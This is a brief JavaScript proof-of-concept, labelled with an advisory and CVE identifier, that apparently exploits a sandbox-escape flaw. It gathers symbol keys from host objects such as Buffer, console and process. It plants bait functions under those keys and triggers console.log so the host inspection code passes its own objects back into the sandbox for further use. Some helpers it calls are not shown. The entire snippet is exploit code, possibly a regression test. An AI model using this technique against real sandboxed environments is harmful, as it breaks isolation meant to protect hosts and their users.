// GHSA-47x8-96vw-5wg6 CVE-2026-43997
// Symbols of the host are read from its objects.
const symbols = [];
for (const source of [globalThis.Buffer, globalThis.console, globalThis.URL, globalThis.process]) {
    try { symbols.push(...Object.getOwnPropertySymbols(source), ...Object.getOwnPropertySymbols(source.prototype)); } catch {}
}
const seen = [];
const bait = {};
for (const symbol of symbols) bait[symbol] = (...args) => { seen.push(...args); return 'x'; };
console.log(bait);
for (const item of seen) await useObject(item);
return found;
